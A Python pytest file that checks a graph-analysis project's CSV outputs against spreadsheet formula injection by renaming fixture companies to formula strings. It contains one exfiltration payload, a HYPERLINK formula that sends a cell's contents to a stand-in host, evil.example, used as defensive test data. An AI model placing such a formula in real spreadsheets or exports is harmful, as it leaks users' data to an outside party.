"""Every CSV the project writes is safe to open in a spreadsheet: text cells that start a formula
(= + - @ tab CR) get a leading apostrophe (OWASP), numbers stay numbers. Checked on real outputs of
the analyses, the export and a command's --format csv, for a company whose name is a formula."""
from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from graph.analysis.run import run_analyses
from graph.cli import main
from graph.core.csvsafe import FORMULA_STARTS, safe_cell
from graph.interchange.export import export_files
from graph.ingest.loading import load_seeds

from .support import copy_fixture

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture(scope="module")
def seeds(tmp_path_factory: pytest.TempPathFactory) -> Path:
    seeds = copy_fixture(tmp_path_factory.mktemp("csvsafe"))
    orgs = seeds / "organizations.yaml"
    orgs.write_text(orgs.read_text().replace("name: Globex Pharma", f"name: '{EVIL}'")
                    .replace("name: Acme Bio", "name: '@SUM(1+1)'").replace("name: Initech Capital", "name: '-2+3'"))
    return seeds


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _assert_safe(text: str) -> None:
    cells = _cells(text)
    assert "'" + EVIL in cells
    for c in cells:
        assert not c.startswith(FORMULA_STARTS) or _is_number(c), c


def _is_number(c: str) -> bool:
    try:
        float(c)
        return True
    except ValueError:
        return False


def test_safe_cell_follows_the_owasp_rule():
    for start in FORMULA_STARTS:
        assert safe_cell(start + "x") == "'" + start + "x"
    assert safe_cell("Acme") == "Acme" and safe_cell(-3) == -3 and safe_cell(None) is None


def test_analysis_csv_files_are_safe(seeds: Path, tmp_path: Path):
    run_analyses(load_seeds(seeds), tmp_path)
    for name in ("centrality.csv", "exposure.csv"):
        text = (tmp_path / name).read_text(encoding="utf-8")
        if name == "centrality.csv":
            _assert_safe(text)
            assert "'@SUM(1+1)" in _cells(text) and "'-2+3" in _cells(text)
        else:
            assert not any(c.startswith(("=", "@", "+")) for c in _cells(text))


def test_export_csv_files_are_safe(seeds: Path):
    files = export_files(load_seeds(seeds), "csv")
    org = next(text for path, text in files.items() if path.endswith("Organization.csv"))
    _assert_safe(org)


def test_command_csv_output_is_safe(seeds: Path):
    res = CliRunner().invoke(main, ["centrality", "--seeds", str(seeds), "--format", "csv"])
    assert res.exit_code == 0, res.output
    _assert_safe(res.stdout)
